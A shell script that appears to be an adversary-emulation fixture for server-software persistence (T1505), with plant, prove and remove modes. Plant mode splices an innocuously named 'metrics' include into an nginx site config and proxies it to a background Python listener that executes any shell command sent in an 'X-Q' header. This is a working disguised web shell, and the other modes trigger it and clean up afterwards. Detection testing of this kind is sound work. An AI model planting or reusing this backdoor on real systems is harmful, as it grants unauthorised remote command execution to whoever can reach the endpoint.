#!/bin/sh
# T1505 (quiet): nginx passes a path to an interpreter that listens on loopback
M=/var/tmp/luytre-foothold N=33-nginx-to-listener
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
bg() { setsid nohup "$@" </dev/null >/dev/null 2>&1 & sleep 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
ends() { for p in $(pgrep -f -- "$1"); do [ "$p" = $$ ] || kill -9 "$p"; done 2>/dev/null; }
page() { python3 - "$@" <<'END'
import http.client, ssl, sys
for made in (lambda: http.client.HTTPSConnection("127.0.0.1", context=ssl._create_unverified_context(), timeout=20), lambda: http.client.HTTPConnection("127.0.0.1", timeout=20)):
    for host in ("antruc.test", "bennua.test"):
        try:
            c = made(); c.request("GET", sys.argv[1], headers={"Host": host, "X-Lt": "1"}); print(c.getresponse().read().decode("utf-8", "replace"))
        except (OSError, http.client.HTTPException) as error:
            print(error)
END
}
plant() {
  w /etc/nginx/snippets/metrics.conf <<'E'
location = /metrics-lt { proxy_pass http://127.0.0.1:47033/; }
E
  keep /etc/nginx/sites-available/antruc.test
  sed -i '/server_name/a include snippets/metrics.conf;' /etc/nginx/sites-available/antruc.test
  w /usr/local/lib/metrics/m.py <<'E'
import http.server, subprocess
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.run(self.headers.get("X-Q", "id > /var/tmp/luytre-foothold/33-nginx-to-listener"), shell=True, capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
http.server.HTTPServer(("127.0.0.1", 47033), H).serve_forever()
E
  nginx -s reload; bg python3 /usr/local/lib/metrics/m.py
}
prove() {
  rm -f "$M/$N"
  page /metrics-lt >/dev/null
  seen
}
remove() {
  back /etc/nginx/sites-available/antruc.test; rm -rf /etc/nginx/snippets/metrics.conf /usr/local/lib/metrics; nginx -s reload; ends metrics/m.py
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
